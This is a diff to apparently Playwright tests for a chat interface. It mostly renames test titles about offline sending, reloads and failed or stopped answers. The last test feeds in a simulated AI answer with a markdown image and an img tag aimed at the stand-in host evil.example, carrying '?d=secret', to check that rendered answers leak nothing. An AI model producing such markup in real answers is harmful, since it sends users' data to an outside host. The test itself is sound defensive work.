@@ -6,7 +6,7 @@ import { LoginPage } from '../support/pages/login.ts';
 /** What a browser says by itself about requests that a test lets fail. */
 const failedRequest = /ERR_INTERNET_DISCONNECTED|ERR_FAILED/;
 
-test('a question sent while offline waits, and is sent once when the browser is online', async ({
+test('a question sent offline waits and is sent once when the browser is back online', async ({
   chat,
   page,
   context,
@@ -57,12 +57,7 @@ test('a question whose acknowledgement is lost is answered once', async ({
   expect(product.provider.asked).toBe(asked + 1);
 });
 
-test('a question that has not arrived survives a reload', async ({
-  chat,
-  page,
-  product,
-  problems,
-}) => {
+test('an unsent question survives a reload', async ({ chat, page, product, problems }) => {
   problems.expect(failedRequest);
   await page.route('**/api/generateResponse', (route) => route.abort());
   await chat.ask('Still here?');
@@ -77,7 +72,7 @@ test('a question that has not arrived survives a reload', async ({
   await expect(chat.questions).toHaveText(['Still here?']);
 });
 
-test('what was typed is there after a session that ended', async ({
+test('typed text survives the end of the session', async ({
   chat,
   page,
   context,
@@ -98,7 +93,7 @@ test('what was typed is there after a session that ended', async ({
   await expect(chat.composer).toHaveValue('Half a thought');
 });
 
-test('a failed answer says so, gives its query back and can be tried again', async ({
+test('a failed answer shows its error, returns the query and can be retried', async ({
   chat,
   page,
   product,
@@ -117,7 +112,7 @@ test('a failed answer says so, gives its query back and can be tried again', asy
   await expect(page.getByText(en.quota.left(4, 5))).toBeVisible();
 });
 
-test('a stopped answer keeps what had come', async ({ chat, page, product }) => {
+test('a stopped answer keeps the text so far', async ({ chat, page, product }) => {
   await chat.ask('A long story');
   const answer = await product.provider.next();
   answer.say('Once upon a time');
@@ -138,7 +133,7 @@ test('a stopped answer keeps what had come', async ({ chat, page, product }) => 
   await again.closed;
 });
 
-test('text that comes never moves what is being read', { tag: '@phone' }, async ({
+test('incoming text never moves the text being read', { tag: '@phone' }, async ({
   chat,
   page,
   product,
@@ -162,7 +157,7 @@ test('text that comes never moves what is being read', { tag: '@phone' }, async 
   await expect(toEnd).toBeHidden();
 });
 
-test('an answer reaches no other host and runs nothing', async ({ chat, product }) => {
+test('an answer contacts no other host and runs no scripts', async ({ chat, product }) => {
   await chat.ask('Show me');
   const answer = await product.provider.next();
   answer.say('![chart](https://evil.example/?d=secret) <img src="https://evil.example/i" ');
